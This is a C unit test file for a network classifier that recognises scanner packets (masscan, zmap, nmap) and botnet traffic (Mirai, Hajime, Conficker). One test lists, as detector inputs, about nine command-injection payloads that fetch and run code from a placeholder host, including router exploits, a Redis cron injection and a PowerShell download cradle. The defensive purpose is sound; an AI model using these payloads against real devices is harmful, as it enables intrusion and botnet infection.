/* SPDX-License-Identifier: Apache-2.0 */
#include "base/cmocka.h"
#include "base/hash.h"
#include "observe/classify/classify_int.h"

#define BIT(mark) (1u << NR_MARK_##mark)

enum { DST = 0xc6120005 }; /* 198.18.0.5: second octet below 128, fourth too */

static struct nr_packet syn_of(uint32_t dst, uint16_t dport, uint32_t seq, uint16_t id,
			       uint16_t window, uint8_t ttl, uint32_t opt_hash)
{
	struct nr_packet pkt = { .proto = 6,
				 .is_v4 = 1,
				 .tcp_flags = NR_TCP_SYN,
				 .dst = nr_ip_v4(dst),
				 .src = nr_ip_v4(0xc0000201),
				 .sport = 40000,
				 .dport = dport,
				 .seq = seq,
				 .ip_id = id,
				 .window = window,
				 .ttl = ttl,
				 .opt_hash = opt_hash };

	nr_classify(&pkt);
	return pkt;
}

static void tools_are_known_by_one_packet(void **state)
{
	/* headers as they were seen on a wire (masscan 1.3.2, zmap 2.1.1, nmap 7.93), or as the source says */
	const struct {
		const char *what;
		struct nr_packet pkt;
		unsigned marks;
		bool nmap;
	} cases[] = {
		{ "mirai", syn_of(DST, 23, DST, 0x4242, 5840, 50, 0), BIT(MIRAI), false },
		{ "masscan", syn_of(0xc6120006, 80, 545158849, 0x7697, 1024, 250, 0), BIT(MASSCAN),
		  false },
		{ "masscan with an option",
		  syn_of(0xc612002e, 80, 524985317, 0xa39b, 1024, 60, NR_OPTIONS_MSS), BIT(MASSCAN),
		  false },
		{ "zmap 2", syn_of(0xc6120003, 23, 845927912, 54321, 65535, 250, 0), BIT(ZMAP),
		  false },
		{ "zmap 4", syn_of(DST, 443, 99, 7, 65535, 244, NR_OPTIONS_WINDOWS), BIT(ZMAP_NEW),
		  false },
		{ "Windows itself", syn_of(DST, 443, 99, 7, 65535, 118, NR_OPTIONS_WINDOWS), 0,
		  false },
		{ "nmap", syn_of(0xc6120001, 80, 1605223218, 0x3d6b, 1024, 59, NR_OPTIONS_MSS), 0,
		  true },
		{ "nmap's packet from afar",
		  syn_of(DST, 80, 1605223218, 1, 1024, 30, NR_OPTIONS_MSS), 0, true },
		{ "nmap of old", syn_of(DST, 80, 1605223218, 1, 3072, 40, NR_OPTIONS_MSS), 0,
		  true },
		{ "too high a TTL for nmap",
		  syn_of(DST, 80, 1605223218, 1, 1024, 120, NR_OPTIONS_MSS), 0, false },
		{ "Linux", syn_of(DST, 80, 1605223218, 1, 64240, 50, NR_OPTIONS_LINUX), 0, false },
		{ "hajime", syn_of(DST, 5358, 1, 1, 14600, 50, 0), BIT(HAJIME), false },
		{ "its window to another port", syn_of(DST, 22, 1, 1, 14600, 50, 0), 0, false },
		{ "conficker's quarter", syn_of(DST, 445, 1, 1, 65535, 110, NR_OPTIONS_MSS_SACK),
		  BIT(CONFICKER), false },
		{ "second octet 128",
		  syn_of(0xc6800005, 445, 1, 1, 65535, 110, NR_OPTIONS_MSS_SACK), 0, false },
		{ "fourth octet 128",
		  syn_of(0xc6120080, 445, 1, 1, 65535, 110, NR_OPTIONS_MSS_SACK), 0, false },
	};

	(void)state;
	for (size_t i = 0; i < NR_COUNT(cases); i++) {
		if (cases[i].pkt.marks != cases[i].marks)
			fail_msg("%s: marks %04x", cases[i].what, cases[i].pkt.marks);
		if (nr_mark_is_nmap_probe(&cases[i].pkt) != cases[i].nmap)
			fail_msg("%s: nmap or not", cases[i].what);
	}
}

static void only_a_syn_over_ipv4_carries_the_marks_of_a_syn(void **state)
{
	struct nr_packet pkt = syn_of(DST, 445, DST, 54321, 14600, 250, 0);

	(void)state;
	assert_int_not_equal(pkt.marks, 0);
	for (unsigned flags = 0; flags < 64; flags++) {
		pkt.tcp_flags = (uint8_t)flags;
		nr_classify(&pkt);
		assert_int_equal(pkt.marks != 0, flags == NR_TCP_SYN);
	}
	pkt.tcp_flags = NR_TCP_SYN;
	pkt.is_v4 = 0;
	nr_classify(&pkt);
	assert_int_equal(pkt.marks, 0);
}

static void datagrams_of_masscan_and_zmap_are_known(void **state)
{
	static const char dns[] = "\x05\xd2\x01\x20\0\x01\0\0\0\0\0\0\x07version\x04"
				  "bind\0\0\x10\0\x03\0\0";
	static const char snmp[] =
		"\x30\x39\x02\x01\0\x04\x06public\xa0\x2c\x02\x04\x79\x60\xff\x44\x02\x01\0\x02\x01"
		"\0\x30\x1e\x30\x0d\x06\x09\x2b\x06\x01\x80\x02\x01\x01\x05\0\x05\0\x30\x0d\x06"
		"\x09\x2b\x06\x01\x80\x02\x01\x01\x05\0\x05\0";
	struct nr_packet pkt = { .proto = 17,
				 .is_v4 = 1,
				 .dst = nr_ip_v4(0xc6120001),
				 .sport = 41382,
				 .dport = 53,
				 .ip_id = 0x05e6,
				 .payload = (const uint8_t *)dns,
				 .payload_len = sizeof(dns) - 1 };

	(void)state;
	nr_classify(&pkt);
	assert_int_equal(pkt.marks, BIT(MASSCAN));
	pkt.ip_id = 54321;
	nr_classify(&pkt);
	assert_int_equal(pkt.marks, BIT(ZMAP));
	pkt.sport = 53;
	pkt.payload_len = 3; /* a service's answer is nobody's probe */
	nr_classify(&pkt);
	assert_int_equal(pkt.marks, 0);

	struct nr_packet get = { .proto = 17,
				 .is_v4 = 1,
				 .dst = nr_ip_v4(0xc6120002),
				 .sport = 41382,
				 .dport = 161,
				 .ip_id = 0xffe7,
				 .payload = (const uint8_t *)snmp,
				 .payload_len = sizeof(snmp) - 1 };
	nr_classify(&get);
	assert_int_equal(get.payload_class, NR_PAYLOAD_SNMP);
	assert_int_equal(get.marks, BIT(MASSCAN));
	get.ip_id++;
	nr_classify(&get);
	assert_int_equal(get.marks, 0);

	struct nr_packet echo = { .proto = 1, .is_v4 = 1, .dport = 0x800, .ip_id = 54321 };
	nr_classify(&echo);
	assert_int_equal(echo.marks, BIT(ZMAP));
	echo.dport = 0; /* a reply */
	nr_classify(&echo);
	assert_int_equal(echo.marks, 0);
}

static void orders_to_download_and_run_are_known(void **state)
{
	static const struct {
		const char *text;
		bool is;
	} cases[] = {
		{ "GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1/jaws;sh+/tmp/jaws HTTP/1.1",
		  true },
		{ "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\nXWebPageName=diag&dest_host=`busybox+wget+http://"
		  "192.0.2.1/bin+-O+/tmp/gaf;sh+/tmp/gaf`",
		  true },
		{ "GET /setup.cgi?todo=syscmd&cmd=rm+-rf+/tmp/*;wget%20http://192.0.2.1/m%20-O%20/tmp/n;sh+n",
		  true },
		{ "wget${IFS}http://192.0.2.1/a;chmod${IFS}777${IFS}a;./a", true },
		{ "*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$40\r\n\n* * * * * curl -fsSL http://192.0.2.1/x | sh\n",
		  true },
		{ "cd /tmp; tftp -g -r mips 192.0.2.1; chmod 777 mips; ./mips", true },
		{ "/bin/busybox ftpget 192.0.2.1 a a; sh a", true },
		{ "cd /tmp || cd /var; wget 192.0.2.1/x.sh; chmod +x x.sh; sh x.sh", true },
		{ "powershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
		  true },
		{ "GET / HTTP/1.1\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n", false },
		{ "GET / HTTP/1.1\r\nUser-Agent: Wget/1.21 (linux-gnu)\r\nReferer: http://192.0.2.1/sh \r\n",
		  false },
		{ "GET http://192.0.2.1/ HTTP/1.1\r\nHost: 192.0.2.1\r\n", false },
		{ "GET /wget.html HTTP/1.1\r\nHost: 192.0.2.1\r\n", false },
		{ "GET /?x=$(id) HTTP/1.1", false },
		{ "wget http://192.0.2.1/file", false }, /* downloads, runs nothing */
		{ "chmod 777 a; ./a", false },
		{ "%", false },
		{ "%4", false },
		{ "${IFS", false },
	};

	(void)state;
	for (size_t i = 0; i < NR_COUNT(cases); i++) {
		size_t n = strlen(cases[i].text);
		uint8_t *copy = test_malloc(n);

		memcpy(copy, cases[i].text, n);
		if (nr_exploit_is(copy, n) != cases[i].is)
			fail_msg("%s", cases[i].text);
		struct nr_packet pkt = { .proto = 6,
					 .is_v4 = 1,
					 .tcp_flags = NR_TCP_ACK | NR_TCP_PSH,
					 .payload = copy,
					 .payload_len = (uint32_t)n };
		nr_classify(&pkt);
		assert_int_equal(pkt.marks, cases[i].is ? BIT(EXPLOIT) : 0);
		test_free(copy);
	}
}

static void random_headers_carry_a_mark_as_often_as_the_table_says(void **state)
{
	enum { ROUNDS = 2000000 };
	unsigned found[NR_MARK_N] = { 0 };
	uint64_t x = 1;

	(void)state;
	for (int i = 0; i < ROUNDS; i++) {
		x = nr_mix64(x + UINT64_C(0x9e3779b97f4a7c15));
		uint32_t dst = (uint32_t)x, seq = (uint32_t)(x >> 32);
		x = nr_mix64(x + UINT64_C(0x9e3779b97f4a7c15));
		struct nr_packet pkt = syn_of(dst, (uint16_t)x, seq, (uint16_t)(x >> 16),
					      (uint16_t)(x >> 32), (uint8_t)(x >> 48), (uint32_t)x);
		for (unsigned m = 0; m < NR_MARK_N; m++)
			found[m] += pkt.marks >> m & 1;
	}
	assert_int_equal(found[NR_MARK_MIRAI], 0);
	assert_int_equal(found[NR_MARK_ZMAP_NEW], 0);
	/* 2^-16 of two million is 30.5 */
	assert_in_range(found[NR_MARK_MASSCAN], 10, 60);
	assert_in_range(found[NR_MARK_ZMAP], 10, 60);
}

static void the_table_is_complete(void **state)
{
	(void)state;
	for (uint8_t m = 0; m < NR_MARK_N; m++) {
		const struct nr_mark_info *info = &nr_marks[m];

		assert_true(info->name != NULL && info->fields != NULL && info->source != NULL &&
			    info->help != NULL);
		assert_string_equal(nr_mark_name(m), info->name);
		assert_true(info->packets >= 1 && info->packets_alone <= info->packets);
		assert_true(info->min_share >= 0 && info->min_share <= 1 && info->chance_log2 < 0);
		for (uint8_t other = 0; other < m; other++)
			assert_string_not_equal(info->name, nr_marks[other].name);
	}
	assert_string_equal(nr_mark_name(NR_MARK_N), "unknown");
	assert_true(NR_MARK_N <= NR_MARK_SLOTS);
}

static void services_are_sorted_and_named(void **state)
{
	size_t named = 0;

	(void)state;
	for (unsigned port = 0; port < 65536; port++) {
		for (uint8_t proto = 6; proto <= 17; proto += 11) {
			const char *name = nr_service_name(proto, (uint16_t)port);

			named += name != NULL;
			for (const char *c = name; c != NULL && *c != '\0'; c++)
				assert_true((*c >= 'a' && *c <= 'z') || (*c >= '0' && *c <= '9') ||
					    *c == '-');
		}
	}
	assert_int_equal(named,
			 162 + 65); /* all rows: bsearch finds none in a table out of order */
	assert_string_equal(nr_service_name(6, 23), "telnet");
	assert_string_equal(nr_service_name(17, 53), "dns");
	assert_null(nr_service_name(6, 2));
	assert_null(nr_service_name(1, 23));
	assert_int_equal(nr_service_port(6, NR_STR("telnet")), 23);
	assert_int_equal(nr_service_port(17, NR_STR("NTP")), 123);
	assert_int_equal(nr_service_port(6, NR_STR("ntp")), 0);
	assert_int_equal(nr_service_port(6, NR_STR("")), 0);
	assert_int_equal(nr_service_port(1, NR_STR("telnet")), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tools_are_known_by_one_packet),
		cmocka_unit_test(only_a_syn_over_ipv4_carries_the_marks_of_a_syn),
		cmocka_unit_test(datagrams_of_masscan_and_zmap_are_known),
		cmocka_unit_test(orders_to_download_and_run_are_known),
		cmocka_unit_test(random_headers_carry_a_mark_as_often_as_the_table_says),
		cmocka_unit_test(the_table_is_complete),
		cmocka_unit_test(services_are_sorted_and_named),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
